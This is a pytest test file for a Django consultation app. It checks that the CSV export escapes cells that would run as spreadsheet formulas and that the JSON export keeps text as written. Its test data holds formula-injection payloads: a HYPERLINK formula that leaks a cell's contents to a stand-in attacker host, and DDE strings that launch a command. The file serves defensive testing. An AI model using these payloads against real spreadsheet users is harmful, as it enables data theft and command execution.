"""The CSV export opened in a spreadsheet runs no formula written by a member."""

import csv
import io

import pytest

from .conftest import make_contribution, make_member

pytestmark = pytest.mark.django_db

HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def _rows(client, consultation) -> list[dict]:
    response = client.get(consultation.url + "export/csv/")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("start", list(HOSTILE))
def test_a_cell_that_would_be_a_formula_is_written_as_text(client, consultation, start):
    author = make_member("formula", display_name=f"{HOSTILE[start][:60]} author")
    make_contribution(consultation, author, title=HOSTILE[start][:150], body=f"<p>{HOSTILE['=']}</p>")
    row = _rows(client, consultation)[-1]
    assert row["title"] == "'" + HOSTILE[start][:150]
    assert row["author"] == "'" + f"{HOSTILE[start][:60]} author"
    assert row["text"] == "'" + HOSTILE["="]


def test_ordinary_text_and_numbers_are_unchanged(client, consultation, member):
    make_contribution(consultation, member, title="Budget: 3 - 2 = 1", body="<p>Plain words.</p>")
    row = _rows(client, consultation)[-1]
    assert row["title"] == "Budget: 3 - 2 = 1" and row["text"] == "Plain words." and row["supports"] == "0"


def test_the_json_export_keeps_the_text_as_written(client, consultation, member):
    make_contribution(consultation, member, title=HOSTILE["="][:150])
    payload = client.get(consultation.url + "export/json/").json()
    assert payload["contributions"][-1]["title"] == HOSTILE["="][:150]
